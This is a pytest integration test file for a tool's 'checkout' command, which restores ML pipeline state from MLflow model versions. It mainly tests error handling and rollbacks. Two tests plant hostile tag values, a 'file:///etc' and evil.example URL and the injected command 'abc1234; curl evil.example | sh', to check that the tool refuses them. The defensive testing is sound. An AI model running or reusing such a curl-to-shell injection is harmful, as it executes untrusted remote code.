"""`cifar10-mlops checkout MODEL_URI`: time travel from the registry back to the pipeline state
that made a version, on a copy of the reproduced tiny pipeline with two versions."""

import json
import subprocess

import mlflow
import pytest
import yaml

from helpers import error_line, run_dvc
from servers import BIN, env_with_bin

# Each test restores a state of the tiny pipeline after a retrain: 20 min in all.
pytestmark = [pytest.mark.integration, pytest.mark.extended]

MODEL = "cifar10-cnn"


def checkout(project, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(BIN / "cifar10-mlops"), "checkout", *args], cwd=project, capture_output=True,
        text=True, env=env_with_bin(), timeout=300,
    )  # fmt: skip


def epochs(project) -> int:
    return yaml.safe_load((project / "params.yaml").read_text())["train"]["epochs"]


def model_md5(project, version: int) -> str:
    mlflow.set_tracking_uri(f"sqlite:///{project}/mlruns/mlflow.db")
    return mlflow.MlflowClient().get_model_version(MODEL, str(version)).tags["model_md5"]


def up_to_date(project) -> bool:
    return "Data and pipelines are up to date" in run_dvc(project, "status").stdout


def snapshot(project) -> dict[str, bytes]:
    files = ("params.yaml", "dvc.lock", "reports/registry.json", "models/model.keras")
    return {f: (project / f).read_bytes() for f in files}


@pytest.fixture
def two_versions(retrained):
    """The reproduced pipeline (v1, 1 epoch) retrained with 2 epochs (v2), committed."""
    assert json.loads((retrained / "reports/registry.json").read_text())["version"] == 2
    return retrained


@pytest.mark.long(seconds=40)
def test_checkout_restores_a_versions_params_lock_and_outputs(two_versions):
    project = two_versions
    from cifar10_mlops.core.files import file_digest

    result = checkout(project, f"models:/{MODEL}/1")
    assert result.returncode == 0, result.stderr
    assert f"-> {MODEL} v1 (run " in result.stdout
    assert epochs(project) == 1
    assert file_digest(project / "models/model.keras", "md5") == model_md5(project, 1)
    assert json.loads((project / "reports/registry.json").read_text())["version"] == 1
    assert up_to_date(project)
    assert "Data and pipelines are up to date" in run_dvc(project, "repro").stdout

    # params.yaml now differs from the commit: a checkout would lose that, unless forced
    before = snapshot(project)
    refused = checkout(project, f"models:/{MODEL}/2")
    assert refused.returncode == 1
    assert error_line(refused).startswith("error: dvc.lock, params.yaml, reports/")
    assert error_line(refused).endswith(  # which reports differ depends on the training
        " changed since the last commit: commit or stash them, or pass --force to overwrite them"
    )
    assert "changed since the last commit: commit or stash them" in error_line(refused)
    assert snapshot(project) == before

    forced = checkout(project, "--force", f"models:/{MODEL}/latest")
    assert forced.returncode == 0, forced.stderr
    assert epochs(project) == 2 and up_to_date(project)
    assert file_digest(project / "models/model.keras", "md5") == model_md5(project, 2)


@pytest.mark.parametrize(
    ("uri", "message"),
    [
        (f"models:/{MODEL}/99", f"error: models:/{MODEL}/99: no such model version in "),
        ("models:/nobody@champion", "error: models:/nobody@champion: no such model version in "),
        ("runs:/0123/model", "error: runs:/0123/model: not a registered model version"),
    ],
)
def test_a_uri_naming_no_version_is_one_line_and_changes_nothing(reproduced, uri, message):
    before = snapshot(reproduced)
    result = checkout(reproduced, uri)
    assert result.returncode == 1
    assert error_line(result).startswith(message), result.stderr
    assert snapshot(reproduced) == before


def test_a_version_whose_state_is_gone_is_one_line_and_changes_nothing(two_versions):
    project = two_versions
    mlflow.set_tracking_uri(f"sqlite:///{project}/mlruns/mlflow.db")
    run_id = mlflow.MlflowClient().get_model_version(MODEL, "1").run_id
    artifacts = mlflow.get_run(run_id).info.artifact_uri.removeprefix("file://")
    subprocess.run(["rm", "-r", f"{artifacts}/pipeline"], check=True)
    before = snapshot(project)
    result = checkout(project, f"models:/{MODEL}/1")
    assert result.returncode == 1
    assert error_line(result).startswith(f"error: {MODEL} v1: cannot download runs:/{run_id}/")
    assert snapshot(project) == before and up_to_date(project)


def test_outputs_in_neither_cache_nor_remote_leave_the_workspace_as_it_was(two_versions):
    project = two_versions
    lock = yaml.safe_load((project / "dvc.lock").read_text())
    # v1's model is only in the cache (nothing was pushed): lose it
    old_md5 = model_md5(project, 1)
    cached = project / ".dvc/cache/files/md5" / old_md5[:2] / old_md5[2:]
    cached.unlink()
    before = snapshot(project)
    result = checkout(project, f"models:/{MODEL}/1")
    assert result.returncode == 1
    assert error_line(result).startswith("error: cannot restore the outputs dvc.lock names:")
    assert snapshot(project) == before and up_to_date(project)
    assert yaml.safe_load((project / "dvc.lock").read_text()) == lock


def set_tag(project, version: str, key: str, value: str) -> None:
    mlflow.set_tracking_uri(f"sqlite:///{project}/mlruns/mlflow.db")
    mlflow.MlflowClient().set_model_version_tag(MODEL, version, key, value)


@pytest.mark.parametrize(
    "where", ["runs:/0123456789abcdef/pipeline", "file:///etc", "https://evil.example/x"]
)
def test_a_state_tag_pointing_anywhere_but_the_versions_run_is_refused(two_versions, where):
    project = two_versions
    set_tag(project, "1", "pipeline_state", where)
    before = snapshot(project)
    result = checkout(project, f"models:/{MODEL}/1")
    assert result.returncode == 1
    assert error_line(result).startswith(f"error: {MODEL} v1: its pipeline_state tag is ")
    assert snapshot(project) == before


def test_a_model_that_does_not_match_the_version_rolls_everything_back(two_versions):
    project = two_versions
    set_tag(project, "1", "model_md5", "0" * 32)
    before = snapshot(project)
    result = checkout(project, f"models:/{MODEL}/1")
    assert result.returncode == 1
    assert error_line(result).startswith(f"error: {MODEL} v1: its model_md5 tag {'0' * 32} is ")
    assert snapshot(project) == before and up_to_date(project)


def test_checkout_outside_the_repository_root_changes_nothing(two_versions):
    project = two_versions
    before = snapshot(project)
    result = checkout(project / "src", f"models:/{MODEL}/1")
    assert result.returncode == 1
    assert error_line(result) == (
        "error: no dvc.yaml here: run checkout in the repository's root folder"
    )
    assert snapshot(project) == before and not (project / "src" / "params.yaml").exists()


def test_a_version_whose_model_md5_tag_was_deleted_is_refused_not_trusted(two_versions):
    project = two_versions
    mlflow.set_tracking_uri(f"sqlite:///{project}/mlruns/mlflow.db")
    mlflow.MlflowClient().delete_model_version_tag(MODEL, "1", "model_md5")
    before = snapshot(project)
    result = checkout(project, f"models:/{MODEL}/1")
    assert result.returncode == 1
    assert error_line(result) == (
        f"error: {MODEL} v1 has no model_md5 tag, so the restored model cannot be checked "
        "against it"
    )
    assert snapshot(project) == before and up_to_date(project)


def test_a_git_commit_tag_is_never_echoed_as_a_command(two_versions):
    project = two_versions
    set_tag(project, "1", "git_commit", "abc1234; curl evil.example | sh")
    result = checkout(project, f"models:/{MODEL}/1")
    assert result.returncode == 0, result.stderr
    assert "git checkout" not in result.stdout
    assert "v1's git_commit tag is not a commit id: 'abc1234; curl evil.example | sh'" in (
        result.stdout
    )


def test_a_running_dvc_repro_is_refused_before_any_file_changes(two_versions):
    """`dvc repro` holds DVC's lock while it runs, and writes dvc.lock at the end: files
    replaced under it would be overwritten, or mixed with its own."""
    import fcntl

    project = two_versions
    before = snapshot(project)
    inode = (project / "params.yaml").stat().st_ino
    (project / ".dvc" / "tmp").mkdir(parents=True, exist_ok=True)
    with open(project / ".dvc" / "tmp" / "lock", "a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)  # as zc.lockfile takes it for DVC
        result = checkout(project, f"models:/{MODEL}/1")
    assert result.returncode == 1
    assert error_line(result).startswith("error: a DVC command (dvc repro?) holds this repo")
    assert snapshot(project) == before
    assert (project / "params.yaml").stat().st_ino == inode  # never replaced, not restored
